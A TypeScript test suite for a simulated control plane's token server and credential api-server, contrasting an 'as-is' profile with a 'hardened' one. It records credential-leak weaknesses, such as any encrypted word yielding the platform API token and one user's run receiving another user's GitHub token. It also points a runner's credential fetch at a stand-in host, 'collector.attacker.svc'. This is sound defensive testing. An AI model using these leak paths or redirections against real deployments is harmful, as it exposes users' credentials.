/**
 * HEAD's control plane (docs/platform/control-plane.md): the token server, the api-server's
 * credential tokens, and the runner pod it creates, reached over real loopback HTTP.
 */
import { constants, publicEncrypt } from 'node:crypto'
import { afterEach, describe, expect, it } from 'vitest'
import type { Engine } from '../../src/main/engine/engine'
import { API_SERVER_URL, CP_TOKEN_URL } from '../../src/main/net/hosts'
import type { ProfileName } from '../../src/shared/profiles'
import { RunnerContext } from '../../src/main/runner/context'
import { fetchCredential } from '../../src/main/runner/fetch-client'
import { recordEvents, request, startTestEngine } from '../support/engine'
import { podOf } from '../support/runner-pod'

const WORLD = {
  users: [
    { id: 'alice', credentials: { mcp: [] } },
    { id: 'bob', credentials: { mcp: [] } }
  ],
  projects: [
    {
      name: 'demo',
      members: { alice: 'admin' as const },
      sessions: [
        { name: 'cp-1', owner: 'alice', sharedWith: { bob: 'edit' as const }, mcpServers: [], controlPlane: { bindings: { github: 'alice', jira: 'alice' } } },
        { name: 'plain', owner: 'alice', mcpServers: [] }
      ]
    }
  ]
}

let engine: Engine | null = null
afterEach(async () => {
  await engine?.stop()
  engine = null
})

async function start(profile: ProfileName = 'as-is'): Promise<Engine> {
  engine = await startTestEngine({ platform: 'head', profile, world: WORLD })
  return engine
}

/** A cluster URL as a test reaches it: the same path on the listener's loopback port. */
function loopback(e: Engine, url: string): string {
  const parsed = new URL(url)
  return `http://127.0.0.1:${e.sim.net.resolve(parsed) ?? 0}${parsed.pathname}${parsed.search}`
}

const cp = (e: Engine) => {
  if (!e.sim.controlPlane) throw new Error('no control plane')
  return e.sim.controlPlane
}
const encrypt = (e: Engine, text: string): string => publicEncrypt({ key: cp(e).publicKeyPem, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha256' }, Buffer.from(text)).toString('base64')
const askToken = (e: Engine, authorization?: string, method = 'GET') => request(loopback(e, CP_TOKEN_URL), { method, headers: authorization === undefined ? {} : { Authorization: authorization } })
const credentialToken = (e: Engine, id: string, token: string, headers: Record<string, string> = {}) =>
  request(loopback(e, `${API_SERVER_URL}/api/ambient/v1/projects/demo/credentials/${id}/token`), { headers: { Authorization: `Bearer ${token}`, ...headers } })
const storedToken = async (e: Engine, user: string): Promise<string> => {
  const stored = await e.sim.credentials.read(user, 'github')
  return stored?.provider === 'github' ? stored.token : ''
}

describe('the token server', () => {
  it("answers a bearer that does not decrypt with Go's plain 401, a short or spaced plaintext with 403, and anything else as GET with 405", async () => {
    const e = await start()
    for (const authorization of [undefined, 'Basic x', 'Bearer ', 'Bearer not base64!', `Bearer ${Buffer.from('x'.repeat(256)).toString('base64')}`]) {
      const res = await askToken(e, authorization)
      expect([res.status, res.text], String(authorization)).toEqual([401, 'unauthorized\n'])
    }
    for (const plaintext of ['short', 'has a space']) expect((await askToken(e, `Bearer ${encrypt(e, plaintext)}`)).text).toBe('forbidden\n')
    expect((await askToken(e, `Bearer ${encrypt(e, 'anything')}`, 'POST')).status).toBe(405)
    const health = await request(loopback(e, CP_TOKEN_URL.replace('/token', '/healthz')))
    expect([health.status, health.text]).toEqual([200, 'ok'])
    expect((await request(loopback(e, CP_TOKEN_URL.replace('/token', '/other')))).text).toBe('404 page not found\n')
  })

  it('as-is gives its own API token for any word of 8 characters (H7)', async () => {
    const e = await start()
    const res = await askToken(e, `Bearer ${encrypt(e, 'anything')}`)
    expect(res.status).toBe(200)
    expect(res.json).toEqual({ token: cp(e).apiToken })
    expect(e.whose(cp(e).apiToken).map((r) => r.owner)).toEqual(['platform:control-plane'])
  })

  it('hardened refuses a word that is no session, and gives a session its own token only', async () => {
    const e = await start('hardened')
    expect((await askToken(e, `Bearer ${encrypt(e, 'anything')}`)).text).toBe('forbidden\n')
    const res = await askToken(e, `Bearer ${encrypt(e, cp(e).sessionIds.get('demo/cp-1') ?? '')}`)
    const token = String(res.json.token)
    expect(token).not.toBe(cp(e).apiToken)
    expect(cp(e).sessionTokens.get(token)).toBe('demo/cp-1')
  })
})

describe("the api-server's credential tokens", () => {
  it("answer the control plane's token with any credential, in the control plane's shape", async () => {
    const e = await start()
    const res = await credentialToken(e, 'cred-alice-github', cp(e).apiToken)
    expect(res.status).toBe(200)
    expect(res.json).toEqual({ credential_id: 'cred-alice-github', provider: 'github', token: await storedToken(e, 'alice') })
    const missing = await credentialToken(e, 'cred-nobody-github', cp(e).apiToken)
    expect([missing.status, missing.json]).toEqual([404, { kind: 'Error', id: '404', code: 'API-404', reason: "Credential with id='cred-nobody-github' not found" }])
  })

  it('answer a token they cannot authenticate with 401, and list only what the caller may read', async () => {
    const e = await start()
    const refused = await credentialToken(e, 'cred-alice-github', e.userToken('alice'))
    expect([refused.status, refused.json]).toEqual([401, { kind: 'Error', reason: 'Unauthorized' }])
    const list = await request(loopback(e, `${API_SERVER_URL}/api/ambient/v1/credentials`), { headers: { Authorization: `Bearer ${cp(e).apiToken}` } })
    expect((list.json.items as Array<{ id: string }>).map((c) => c.id).sort()).toEqual(['cred-alice-github', 'cred-alice-jira'])
    expect(list.text).not.toContain(await storedToken(e, 'alice'))
    expect((await request(loopback(e, `${API_SERVER_URL}/api/other`))).text).toBe('404 page not found\n')
  })

  it("as-is ignore the run's user (H8); hardened refuse the control plane's read for a user who did not create the credential", async () => {
    const asIs = await start()
    expect((await credentialToken(asIs, 'cred-alice-github', cp(asIs).apiToken, { 'X-Runner-Current-User': 'bob' })).status).toBe(200)
    await asIs.stop()
    const e = await start('hardened')
    const session = cp(e).mintSessionToken('demo/cp-1')
    const refused = await credentialToken(e, 'cred-alice-github', session, { 'X-Runner-Current-User': 'bob' })
    expect([refused.status, refused.json]).toEqual([403, { kind: 'Error', reason: 'Forbidden' }])
    expect((await credentialToken(e, 'cred-alice-github', session, { 'X-Runner-Current-User': 'alice' })).status).toBe(200)
    expect((await credentialToken(e, 'cred-alice-github', session)).status).toBe(200)
  })
})

describe("the api-server's answers, exactly", () => {
  /** Bindings of every kind: a GitLab token, a kubeconfig the api-server holds, a Google binding to a user who stored no Google credential. */
  const BOUND = {
    users: [
      { id: 'alice', credentials: { mcp: [] } },
      { id: 'bob', credentials: { google: false, mcp: [] } }
    ],
    projects: [{ name: 'demo', members: { alice: 'admin' as const }, sessions: [{ name: 'cp-2', owner: 'alice', mcpServers: [], controlPlane: { bindings: { gitlab: 'alice', kubeconfig: 'alice', google: 'bob' } } }] }]
  }
  const api = (e: Engine, path: string, token?: string, headers: Record<string, string> = {}) =>
    request(loopback(e, `${API_SERVER_URL}/api/ambient/v1/${path}`), { headers: { ...(token === undefined ? {} : { Authorization: `Bearer ${token}` }), ...headers } })

  it("serve each provider's one string: a GitLab token, the kubeconfig's text, nothing for a Google binding whose user stored none", async () => {
    const e = await startTestEngine({ platform: 'head', profile: 'as-is', world: BOUND })
    engine = e
    const events = recordEvents(e)
    const gitlab = await e.sim.credentials.read('alice', 'gitlab')
    expect((await api(e, 'credentials/cred-alice-gitlab/token', cp(e).apiToken)).json).toEqual({ credential_id: 'cred-alice-gitlab', provider: 'gitlab', token: gitlab?.provider === 'gitlab' ? gitlab.token : '?' })
    const kubeconfig = await api(e, 'credentials/cred-alice-kubeconfig/token', cp(e).apiToken)
    expect(kubeconfig.json.token).toBe(cp(e).credentials.get('cred-alice-kubeconfig')?.value)
    expect(String(kubeconfig.json.token)).toContain('server: https://kubernetes.default.svc')
    expect((await api(e, 'credentials/cred-bob-google/token', cp(e).apiToken)).json).toEqual({ credential_id: 'cred-bob-google', provider: 'google', token: '' })
    const served = events.of('credential.served').map((s) => [s.hop, s.slot, s.owner, s.source, s.credentials.map((c) => `${c.owner} ${c.slot} ${c.field}`)])
    expect(served).toEqual([
      ['control-plane', 'gitlab', 'alice', 'stored', [expect.stringMatching(/^alice gitlab /)]],
      ['control-plane', 'kubeconfig', 'alice', 'stored', ['alice kubeconfig kubeconfig token']],
      ['control-plane', 'google', 'bob', 'stored', []]
    ])
  })

  it('answer the metadata of a credential, its url and email for Jira only, and 401 or 404 as for the token', async () => {
    const e = await start()
    const meta = (id: string, token?: string) => api(e, `credentials/${id}`, token)
    expect((await meta('cred-alice-github', cp(e).apiToken)).json).toEqual({ id: 'cred-alice-github', kind: 'Credential', href: '/api/ambient/v1/credentials/cred-alice-github', name: 'alice-github', provider: 'github' })
    expect((await meta('cred-alice-jira', cp(e).apiToken)).json).toMatchObject({ provider: 'jira', url: 'https://acme.atlassian.net', email: 'alice@example.com' })
    const none = await meta('cred-alice-github')
    expect([none.status, none.json]).toEqual([401, { kind: 'Error', reason: 'Unauthorized' }])
    const missing = await meta('cred-nobody-github', cp(e).apiToken)
    expect([missing.status, missing.json]).toEqual([404, { kind: 'Error', id: '404', code: 'API-404', reason: "Credential with id='cred-nobody-github' not found" }])
    const other = await meta('cred-alice-github', cp(e).mintSessionToken('demo/plain'))
    expect([other.status, other.json]).toEqual([404, { kind: 'Error', reason: 'Not Found' }])
    const kube = await startTestEngine({ platform: 'head', profile: 'as-is', world: BOUND })
    await e.stop()
    engine = kube
    expect((await api(kube, 'credentials/cred-alice-kubeconfig', cp(kube).apiToken)).json).toEqual({ id: 'cred-alice-kubeconfig', kind: 'Credential', href: '/api/ambient/v1/credentials/cred-alice-kubeconfig', name: 'alice-kubeconfig', provider: 'kubeconfig' })
  })

  it('list the credentials in the api-server\'s list shape, and refuse no token with 401', async () => {
    const e = await start()
    const list = await api(e, 'credentials', cp(e).apiToken)
    expect(list.json).toEqual({
      kind: 'CredentialList',
      page: 1,
      size: 2,
      total: 2,
      items: [
        { kind: 'Credential', id: 'cred-alice-github', name: 'alice-github', provider: 'github' },
        { kind: 'Credential', id: 'cred-alice-jira', name: 'alice-jira', provider: 'jira' }
      ]
    })
    const none = await api(e, 'credentials')
    expect([none.status, none.json]).toEqual([401, { kind: 'Error', reason: 'Unauthorized' }])
  })

  it('tell a user nothing of an id that does not exist; a user reading their own credential may name anyone as the run user, even hardened', async () => {
    const e = await startTestEngine({ platform: 'head', profile: 'hardened', world: { ...WORLD, identity: 'sso' as const } })
    engine = e
    const events = recordEvents(e)
    const missing = await credentialToken(e, 'cred-nobody-github', e.userToken('alice'))
    expect([missing.status, missing.json]).toEqual([404, { kind: 'Error', reason: 'Not Found' }])
    expect((await credentialToken(e, 'cred-alice-github', e.userToken('alice'), { 'X-Runner-Current-User': 'bob' })).status).toBe(200)
    // The control plane's identity reading it for bob is what hardened refuses, and says so.
    expect((await credentialToken(e, 'cred-alice-github', cp(e).mintSessionToken('demo/cp-1'), { 'X-Runner-Current-User': 'bob' })).status).toBe(403)
    expect(events.of('log').filter((l) => l.hop === 'control-plane').map((l) => [l.level, l.text])).toEqual([['warning', 'credential cred-alice-github of alice refused for the run of bob']])
  })
})

describe('the runner pod the control plane creates', () => {
  it('has its session id, the api-server as BACKEND_API_URL, the token server, CREDENTIAL_IDS, and no mounted BOT token', async () => {
    const e = await start()
    const runner = e.runner('demo', 'cp-1')
    if (!runner) throw new Error('no runner')
    expect(runner.env.get('SESSION_ID')).toBe(cp(e).sessionIds.get('demo/cp-1'))
    expect(runner.env.get('SESSION_ID')).toMatch(/^[0-9a-f-]{36}$/)
    expect(runner.env.get('BACKEND_API_URL')).toBe(API_SERVER_URL)
    expect(runner.env.get('AMBIENT_CP_TOKEN_URL')).toBe(CP_TOKEN_URL)
    expect(JSON.parse(runner.env.get('CREDENTIAL_IDS') ?? '{}')).toEqual({ github: 'cred-alice-github', jira: 'cred-alice-jira' })
    expect(await runner.workspace.exists('/var/run/secrets/ambient/bot-token')).toBe(false)
    expect(runner.cpToken.value).toBe(cp(e).apiToken)
    expect(e.runner('demo', 'plain')?.env.has('CREDENTIAL_IDS')).toBe(false)
  })

  it("fetches a bound provider from the api-server by its id, the rest from the backend path, and bob's turn gets alice's GitHub as-is", async () => {
    const e = await start()
    const events = recordEvents(e)
    const outcome = await e.sendTurn({ sender: { kind: 'user', userId: 'bob' }, project: 'demo', session: 'cp-1', message: 'github.whoami' })
    const turn = outcome.turn?.turn ?? ''
    await e.waitForTurn(turn)
    const toApi = events.of('http.request', turn).filter((r) => r.to === 'control-plane').map((r) => new URL(r.url).pathname)
    expect(toApi).toEqual(expect.arrayContaining(['/api/ambient/v1/projects/demo/credentials/cred-alice-github/token', '/api/ambient/v1/projects/demo/credentials/cred-alice-jira/token']))
    const served = events.of('credential.served', turn).map((s) => [s.hop, s.slot, s.owner])
    expect(served).toEqual(expect.arrayContaining([['control-plane', 'github', 'alice'], ['control-plane', 'jira', 'alice']]))
    expect(events.of('tool.result', turn).map((r) => r.actedAs)).toEqual(['alice'])
  })
})

describe("the runner's fetch in a control-plane pod", () => {
  async function cpPod(env: Record<string, string> = {}, callerToken = '') {
    const e = await start()
    const runner = e.runner('demo', 'cp-1')
    if (!runner) throw new Error('no runner')
    const context = new RunnerContext('cp-1', '/workspace')
    context.setCurrentUser('bob', '', callerToken)
    const pod = podOf(runner, { env: new Map([...runner.env, ...Object.entries(env)]), context })
    return { e, pod, events: recordEvents(e) }
  }

  it('reads a bound provider by id with the control plane token when there is no caller token, and the rest on the backend path, which the api-server does not serve', async () => {
    const { e, pod, events } = await cpPod()
    expect(await fetchCredential(pod, 'github')).toEqual({ credential_id: 'cred-alice-github', provider: 'github', token: await storedToken(e, 'alice') })
    expect(await fetchCredential(pod, 'gitlab')).toEqual({})
    const urls = events.of('http.request').filter((r) => r.from === 'runner').map((r) => `${r.to} ${new URL(r.url).pathname}`)
    expect(urls).toEqual([
      'control-plane /api/ambient/v1/projects/demo/credentials/cred-alice-github/token',
      `control-plane /projects/demo/agentic-sessions/cp-1/credentials/gitlab`
    ])
  })

  it('takes a fresh token from the token server when the one it holds is refused, and retries once', async () => {
    const { e, pod, events } = await cpPod()
    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
    expect(await fetchCredential(pod, 'github')).toMatchObject({ credential_id: 'cred-alice-github' })
    expect(pod.cpToken.value).toBe(cp(e).apiToken)
    const to = events.of('http.request').filter((r) => r.from === 'runner').map((r) => `${r.to} ${new URL(r.url).pathname}`)
    expect(to).toEqual(['control-plane /api/ambient/v1/projects/demo/credentials/cred-alice-github/token', 'control-plane /token', 'control-plane /api/ambient/v1/projects/demo/credentials/cred-alice-github/token'])
  })

  it('raises PermissionError when the token server refuses the refresh, and json.loads errors on CREDENTIAL_IDS that is not JSON', async () => {
    const { pod } = await cpPod({ AMBIENT_CP_TOKEN_PUBLIC_KEY: '' })
    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
    await expect(fetchCredential(pod, 'github')).rejects.toThrow('github authentication failed with HTTP 401')
    pod.env.set('CREDENTIAL_IDS', '{not json')
    await expect(fetchCredential(pod, 'github')).rejects.toThrow(SyntaxError)
  })
})

describe('the api-server in an SSO world', () => {
  it("lets a user's JWT read a credential they created, tells them nothing of another's, and refuses an expired JWT", async () => {
    const e = await startTestEngine({ platform: 'head', profile: 'as-is', world: { ...WORLD, identity: 'sso' as const } })
    engine = e
    const own = await credentialToken(e, 'cred-alice-github', e.userToken('alice'))
    expect([own.status, own.json.provider]).toEqual([200, 'github'])
    const other = await credentialToken(e, 'cred-alice-github', e.userToken('bob'))
    expect([other.status, other.json]).toEqual([404, { kind: 'Error', reason: 'Not Found' }])
    const list = await request(loopback(e, `${API_SERVER_URL}/api/ambient/v1/credentials`), { headers: { Authorization: `Bearer ${e.userToken('bob')}` } })
    expect(list.json.items).toEqual([])
    e.sim.clock.advance(6 * 60_000)
    expect((await credentialToken(e, 'cred-alice-github', e.userToken('alice'))).status).toBe(401)
  })

  it("ends bob's fetch at the api-server's 404 for his own JWT: no fallback, so no GitHub, not alice's", async () => {
    const e = await startTestEngine({ platform: 'head', profile: 'as-is', world: { ...WORLD, identity: 'sso' as const } })
    engine = e
    const events = recordEvents(e)
    const outcome = await e.sendTurn({ sender: { kind: 'user', userId: 'bob' }, project: 'demo', session: 'cp-1', message: 'github.whoami' })
    const turn = outcome.turn?.turn ?? ''
    await e.waitForTurn(turn)
    const github = events.of('runner.fetch', turn).filter((f) => f.slot === 'github')
    expect(github.length).toBeGreaterThan(0)
    expect(new Set(github.map((f) => `${f.auth} ${f.status} ${f.outcome}`))).toEqual(new Set(['caller 404 empty']))
    expect(events.of('tool.result', turn).map((r) => r.actedAs)).toEqual([null])
  })
})

describe("the fetch's decisions in a control-plane pod", () => {
  async function podAt(profile: ProfileName, session: string, env: Record<string, string | null> = {}, user = 'bob') {
    const e = await start(profile)
    const runner = e.runner('demo', session)
    if (!runner) throw new Error('no runner')
    const context = new RunnerContext(session, '/workspace')
    context.setCurrentUser(user, '', '')
    const copy = new Map(runner.env)
    for (const [key, value] of Object.entries(env)) {
      if (value === null) copy.delete(key)
      else copy.set(key, value)
    }
    const pod = podOf(runner, { env: copy, context })
    const events = recordEvents(e)
    const fetched = () => events.of('runner.fetch').at(-1)
    const logs = () => events.of('log').filter((l) => l.hop === 'runner').map((l) => `${l.level}: ${l.text}`)
    const paths = () => events.of('http.request').filter((r) => r.from === 'runner').map((r) => new URL(r.url).pathname)
    return { e, pod, fetched, logs, paths }
  }

  it('tells a retry that came back as a fallback, and says it refreshed from the control plane', async () => {
    const { pod, fetched, logs } = await podAt('as-is', 'cp-1')
    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
    await fetchCredential(pod, 'github')
    expect(fetched()).toMatchObject({ status: 200, outcome: 'ok', fallback: true, auth: 'bot' })
    expect(logs()).toContain('info: github got 401 with cached BOT_TOKEN — refreshing from CP endpoint and retrying')
  })

  it('when the token server refuses the refresh, logs why and denies with the first status', async () => {
    const { pod, fetched, logs } = await podAt('as-is', 'cp-1', { AMBIENT_CP_TOKEN_PUBLIC_KEY: null })
    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
    await expect(fetchCredential(pod, 'github')).rejects.toThrow(/^github authentication failed with HTTP 401$/)
    expect(logs()).toContain('warning: github CP token refresh failed: AMBIENT_CP_TOKEN_PUBLIC_KEY env var is required when AMBIENT_CP_TOKEN_URL is set')
    expect(fetched()).toMatchObject({ status: 401, outcome: 'denied' })
  })

  it('hardened: a retry the api-server refuses too is a PermissionError with its status', async () => {
    const { pod, logs } = await podAt('hardened', 'cp-1')
    // The retry names bob, whom the hardened api-server refuses alice's credential.
    pod.cpToken.value = 'eyJ.stale.token-the-api-server-does-not-know'
    await expect(fetchCredential(pod, 'github')).rejects.toThrow(/^github authentication failed with HTTP 403$/)
    expect(logs()).toContain('warning: github retry with fresh BOT_TOKEN failed: HTTP Error 403')
  })

  it('takes an id of any JSON type as text, trims the project, and raises on CREDENTIAL_IDS that is no object', async () => {
    const { pod, paths } = await podAt('as-is', 'cp-1', { CREDENTIAL_IDS: '{"github": 42}', PROJECT_NAME: '  demo  ' })
    await fetchCredential(pod, 'github')
    expect(paths()).toEqual(['/api/ambient/v1/projects/demo/credentials/42/token'])
    for (const ids of ['[]', 'null', '"github"']) {
      pod.env.set('CREDENTIAL_IDS', ids)
      await expect(fetchCredential(pod, 'github'), ids).rejects.toThrow("CREDENTIAL_IDS is not a JSON object, so it has no attribute 'get'")
    }
  })

  it('hardened allows the api-server only on its own port and only in a pod the control plane made', async () => {
    const plain = await podAt('hardened', 'plain', { BACKEND_API_URL: API_SERVER_URL })
    await fetchCredential(plain.pod, 'github')
    expect(plain.fetched()).toMatchObject({ outcome: 'refused-host', fallback: false })
    await plain.e.stop()
    for (const base of ['http://ambient-api-server.ambient-code.svc:8080', 'http://collector.attacker.svc:8000']) {
      const cp1 = await podAt('hardened', 'cp-1', { BACKEND_API_URL: base })
      await fetchCredential(cp1.pod, 'github')
      expect(cp1.fetched(), base).toMatchObject({ outcome: 'refused-host' })
      await cp1.e.stop()
    }
  })
})

describe("the fetch's host and BOT token at HEAD, outside the control plane", () => {
  it("R9b at HEAD takes any *.svc host, and a mounted BOT token file's trailing newline is not sent", async () => {
    const e = await start('as-is')
    const runner = e.runner('demo', 'plain')
    if (!runner) throw new Error('no runner')
    const context = new RunnerContext('plain', '/workspace')
    context.setCurrentUser('alice', '', '')
    const events = recordEvents(e)
    const svc = podOf(runner, { env: new Map([...runner.env, ['BACKEND_API_URL', 'http://collector.attacker.svc/api']]), context })
    await fetchCredential(svc, 'github')
    expect(events.of('runner.fetch').at(-1)?.outcome).not.toBe('refused-host')
    const token = (await runner.workspace.read('/var/run/secrets/ambient/bot-token')) ?? ''
    await runner.workspace.write('/var/run/secrets/ambient/bot-token', `${token}\n`, 0o644)
    await fetchCredential(podOf(runner, { context }), 'github')
    expect(events.of('runner.fetch').at(-1)).toMatchObject({ auth: 'bot', status: 200, outcome: 'ok' })
  })
})
